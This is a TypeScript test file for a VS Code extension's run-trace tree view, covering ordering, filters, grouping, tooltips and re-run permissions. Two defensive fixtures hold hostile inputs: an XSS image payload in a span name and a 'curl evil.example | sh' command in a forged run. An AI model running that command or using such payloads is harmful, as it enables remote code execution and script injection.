/**
 * The Runs tree as data, over a real sql.js store: ordering, live updates that touch only
 * their rows and keep element identity (so VS Code keeps what the user expanded), filters,
 * grouping, and what each row says.
 */
import { strict as assert } from 'node:assert';
import * as path from 'node:path';
import { beginRun } from '../../src/core/runner';
import { tempDir } from './helpers/fixtures';
import type { Run } from '../../src/core/model';
import { TraceStore, type StoreChange } from '../../src/core/store/store';
import { RunsTreeModel, type RunsElement } from '../../src/extension/treeModel';
import { spanFactory } from './helpers/spans';

const T0 = 1_700_000_000_000_000_000n;
const S = 1_000_000_000n;
/** Tooltip markdown as read: entities decoded. */
const plain = (md: string) => md.replace(/&#(\d+);/g, (_m, n: string) => String.fromCharCode(Number(n)));
const span = spanFactory({ traceId: 'a'.repeat(32), durationNs: S });

function runPatch(id: string, startNs: bigint, over: Partial<Run> = {}) {
  return {
    id,
    name: id,
    workflow: over.workflow ?? id.replace(/-\d+$/, ''),
    status: 'RUNNING' as const,
    source: 'launch' as const,
    startNs,
    attributes: {},
    ...over,
  };
}

describe('runs tree model', () => {
  let store: TraceStore;
  let model: RunsTreeModel;
  let now: bigint;
  const changes: StoreChange[] = [];
  const labels = (els: RunsElement[]) => els.map((e) => model.item(e).label);

  beforeEach(async () => {
    store = await TraceStore.open();
    changes.length = 0;
    store.onChange((c) => changes.push(c));
    now = T0 + 100n * S;
    model = new RunsTreeModel(store, { now: () => now });
  });
  afterEach(() => store.close());

  it('lists runs newest first with the status word, duration, age and exit code', () => {
    store.apply({ runs: [runPatch('flow-1', T0), runPatch('flow-2', T0 + 10n * S)], spans: [] });
    store.endRun('flow-1', { exitCode: 0, endNs: T0 + 2n * S });
    store.endRun('flow-2', { exitCode: 1, endNs: T0 + 13n * S });
    assert.deepEqual(labels(model.roots()), ['flow-2', 'flow-1']);
    const d = model.item(model.runElement('flow-2'));
    assert.match(d.description, /^FAILED · 3\.00 s · .+ · exit 1$/);
    assert.deepEqual(d.icon, { id: 'error', color: 'testing.iconFailed' });
    assert.equal(model.item(model.runElement('flow-1')).icon.id, 'pass');
  });

  it('shows a failed step in red with its error, a hung step as hung, a running step with live elapsed time', () => {
    store.apply({ runs: [runPatch('flow-1', T0)], spans: [] });
    const root = span('flow-1', { name: 'pipeline', endNs: undefined, status: 'RUNNING' });
    const failed = span('flow-1', {
      name: 'validate',
      parentSpanId: root.spanId,
      status: 'ERROR',
      events: [
        { name: 'exception', timeNs: T0, attributes: { 'exception.type': 'ValueError', 'exception.message': 'duplicate test ids: t1' } },
      ],
    });
    const running = span('flow-1', {
      name: 'generate',
      parentSpanId: root.spanId,
      endNs: undefined,
      status: 'RUNNING',
      startNs: T0 + 90n * S,
    });
    store.apply({ runs: [], spans: [root, failed, running] });
    const [rootEl] = model.children(model.runElement('flow-1'));
    const kids = model.children(rootEl);
    assert.deepEqual(labels(kids), ['validate', 'generate']);
    const v = model.item(kids[0]!);
    assert.equal(v.description, 'ValueError: duplicate test ids: t1');
    assert.equal(v.icon.color, 'testing.iconFailed');
    assert.equal(v.contextValue, 'span-failed');
    assert.equal(v.command, 'goToSource');
    assert.equal(model.item(kids[1]!).description, 'running · 10.0 s');
    now += 5n * S;
    assert.equal(model.item(kids[1]!).description, 'running · 15.0 s');
    assert.equal(model.item(rootEl!).collapsible, 'expanded', 'the path to a failure opens by itself');

    store.endRun('flow-1', { signal: 'SIGKILL', endNs: T0 + 120n * S });
    model.applyChanges(changes.splice(0));
    assert.match(model.item(model.children(rootEl!)[1]!).description, /^hung · never ended/);
    assert.equal(model.item(model.children(rootEl!)[1]!).icon.id, 'warning');
  });

  it('shows a run the user stopped as CANCELLED with its own icon, and the step it was in as stopped, not hung', () => {
    store.apply({ runs: [runPatch('flow-1', T0)], spans: [] });
    store.apply({ runs: [], spans: [span('flow-1', { name: 'generate', endNs: undefined, status: 'RUNNING', startNs: T0 + S })] });
    store.endRun('flow-1', { signal: 'SIGINT', cancelled: true, endNs: T0 + 4n * S });
    const run = model.item(model.runElement('flow-1'));
    assert.match(run.description, /^CANCELLED · 4\.00 s · .+ · SIGINT$/);
    assert.deepEqual(run.icon, { id: 'circle-slash', color: 'testing.iconSkipped' });
    assert.match(plain(run.tooltip), /Why:\*\* stopped by the user \(SIGINT\)/);
    const [step] = model.children(model.runElement('flow-1'));
    const v = model.item(step!);
    assert.equal(v.description, 'stopped with the run · ran 3.00 s');
    assert.deepEqual(v.icon, { id: 'circle-slash', color: 'testing.iconSkipped' });
    assert.doesNotMatch(plain(v.tooltip), /hung/i);
    assert.match(plain(v.tooltip), /stopped with the run/);
  });

  it('shows a run whose recording process went away as INCOMPLETE, with the reason in its tooltip', () => {
    store.apply({ runs: [runPatch('flow-1', T0)], spans: [] });
    store.endRun('flow-1', { incomplete: 'the process recording it (pid 4242) ended without ending the run', endNs: T0 + 2n * S });
    const run = model.item(model.runElement('flow-1'));
    assert.match(run.description, /^INCOMPLETE · /);
    assert.deepEqual(run.icon, { id: 'debug-disconnect', color: 'list.warningForeground' });
    assert.match(plain(run.tooltip), /never ended: the process recording it \(pid 4242\) ended without ending the run/);
  });

  it('filters by each run status, CANCELLED and INCOMPLETE included', () => {
    store.apply({ runs: ['a-1', 'b-1', 'c-1'].map((id, i) => runPatch(id, T0 + BigInt(i) * S)), spans: [] });
    store.endRun('a-1', { exitCode: 0 });
    store.endRun('b-1', { signal: 'SIGTERM', cancelled: true });
    store.endRun('c-1', { incomplete: 'gone' });
    model.setFilter({ statuses: ['CANCELLED'] });
    assert.deepEqual(labels(model.roots()), ['b-1']);
    model.setFilter({ statuses: ['INCOMPLETE', 'SUCCESS'] });
    assert.deepEqual(labels(model.roots()), ['c-1', 'a-1']);
  });

  it('refreshes only the touched run when spans arrive, keeping element identity', () => {
    store.apply({ runs: [runPatch('a-1', T0), runPatch('b-1', T0 + S)], spans: [span('a-1', { name: 'first' })] });
    const before = model.roots();
    const aEl = model.runElement('a-1');
    const firstEl = model.children(aEl)[0];
    changes.length = 0;
    store.apply({ runs: [], spans: [span('a-1', { name: 'second' })] });
    const r = model.applyChanges(changes.splice(0));
    assert.deepEqual(r, { root: false, elements: [aEl] });
    assert.equal(model.roots()[1], before[1], 'same object for the untouched run');
    assert.equal(model.children(aEl)[0], firstEl, 'same object for an existing span');
    assert.deepEqual(labels(model.children(aEl)), ['first', 'second']);
  });

  it('refreshes the root when a new run arrives and puts it on top', () => {
    store.apply({ runs: [runPatch('a-1', T0)], spans: [] });
    model.roots();
    changes.length = 0;
    store.apply({ runs: [runPatch('a-2', T0 + S)], spans: [] });
    assert.deepEqual(model.applyChanges(changes.splice(0)), { root: true });
    assert.deepEqual(labels(model.roots()), ['a-2', 'a-1']);
  });

  it('filters by status and by text in run or step names, showing the matching steps', () => {
    store.apply({
      runs: [runPatch('ingest-1', T0), runPatch('report-1', T0 + S)],
      spans: [span('report-1', { name: 'render chart' }), span('report-1', { name: 'upload' })],
    });
    store.endRun('ingest-1', { exitCode: 1 });
    store.endRun('report-1', { exitCode: 0 });
    model.setFilter({ statuses: ['FAILED'] });
    assert.deepEqual(labels(model.roots()), ['ingest-1']);
    model.setFilter({ statuses: [], text: 'chart' });
    assert.deepEqual(labels(model.roots()), ['report-1']);
    assert.deepEqual(labels(model.children(model.runElement('report-1'))), ['render chart']);
    model.setFilter({ text: '' });
    assert.deepEqual(labels(model.roots()), ['report-1', 'ingest-1']);
  });

  it('groups runs by workflow, newest workflow first', () => {
    store.apply({
      runs: [
        runPatch('x-1', T0, { workflow: 'x' }),
        runPatch('y-1', T0 + S, { workflow: 'y' }),
        runPatch('x-2', T0 + 2n * S, { workflow: 'x' }),
      ],
      spans: [],
    });
    model.setGroupByWorkflow(true);
    const groups = model.roots();
    assert.deepEqual(labels(groups), ['x', 'y']);
    assert.deepEqual(labels(model.children(groups[0])), ['x-2', 'x-1']);
    assert.equal(model.parent(model.runElement('x-1')), groups[0]);
  });

  it('caps very wide levels with a "more" row that opens the timeline', () => {
    const m = new RunsTreeModel(store, { now: () => now, maxChildren: 3 });
    store.apply({ runs: [runPatch('wide-1', T0)], spans: Array.from({ length: 5 }, () => span('wide-1')) });
    const kids = m.children(m.runElement('wide-1'));
    assert.equal(kids.length, 4);
    assert.equal(m.item(kids[3]!).label, '… 2 more spans');
    assert.equal(m.item(kids[3]!).command, 'openTimeline');
  });

  it("opens a step's code on click when its location is known, and always tries for a failed step", () => {
    const loc = { file: '/ws/flow.py', line: 12, via: 'attribute' as const };
    const m = new RunsTreeModel(store, { now: () => now, resolve: (s) => (s.name === 'located' ? loc : undefined) });
    store.apply({
      runs: [runPatch('click-1', T0)],
      spans: [
        span('click-1', { name: 'located' }),
        span('click-1', { name: 'nowhere' }),
        span('click-1', { name: 'broken', status: 'ERROR' }),
      ],
    });
    const cmds = Object.fromEntries(m.children(m.runElement('click-1')).map((e) => [m.item(e).label, m.item(e).command]));
    assert.deepEqual(cmds, { located: 'goToSource', nowhere: undefined, broken: 'goToSource' });
  });

  it('escapes trace text in tooltips and says when a step has no known source', () => {
    const m = new RunsTreeModel(store, { now: () => now, resolve: () => undefined });
    store.apply({ runs: [runPatch('esc-1', T0)], spans: [span('esc-1', { name: '**bold** <img src=x onerror=alert(1)>' })] });
    const tip = m.item(m.children(m.runElement('esc-1'))[0]!).tooltip;
    assert.ok(!/(^|[^\\])<img/.test(tip), tip);
    assert.match(tip, /Source \| unknown|Source.*unknown/);
  });

  describe('re-run', () => {
    let keyBefore: string | undefined;
    before(() => {
      keyBefore = process.env.RUNLENS_KEY_FILE;
      process.env.RUNLENS_KEY_FILE = path.join(tempDir(), 'launch.key');
    });
    after(() => {
      if (keyBefore === undefined) delete process.env.RUNLENS_KEY_FILE;
      else process.env.RUNLENS_KEY_FILE = keyBefore;
    });

    it('offers Re-run and Debug from Here only on runs this user launched, and says in the tooltip why not', () => {
      // A run as a web page could post it: source "launch", a command and a cwd, no signature.
      store.apply({
        runs: [runPatch('posted-1', T0, { command: ['sh', '-c', 'curl evil.example | sh'], cwd: '/tmp' })],
        spans: [span('posted-1', { name: 'step', status: 'ERROR' })],
      });
      const mine = beginRun(store, { name: 'mine', source: 'launch', command: ['python3', 'flow.py'], cwd: '/ws' });
      store.apply({ runs: [], spans: [span(mine.id, { name: 'step', status: 'ERROR' })] });
      const posted = model.item(model.runElement('posted-1'));
      assert.equal(posted.contextValue, 'run');
      assert.match(posted.tooltip, /not launched by Runlens on this machine/);
      assert.equal(model.item(model.children(model.runElement('posted-1'))[0]!).contextValue, 'span-failed');
      assert.equal(model.item(model.runElement(mine.id)).contextValue, 'run+rerun');
      assert.equal(model.item(model.children(model.runElement(mine.id))[0]!).contextValue, 'span-failed+rerun');
    });
  });

  it('forgets deleted runs and everything after Clear All', () => {
    store.apply({ runs: [runPatch('a-1', T0), runPatch('a-2', T0 + S)], spans: [] });
    model.roots();
    changes.length = 0;
    store.deleteRun('a-1');
    model.applyChanges(changes.splice(0));
    assert.deepEqual(labels(model.roots()), ['a-2']);
    store.clear();
    model.applyChanges(changes.splice(0));
    assert.deepEqual(model.roots(), []);
  });
});
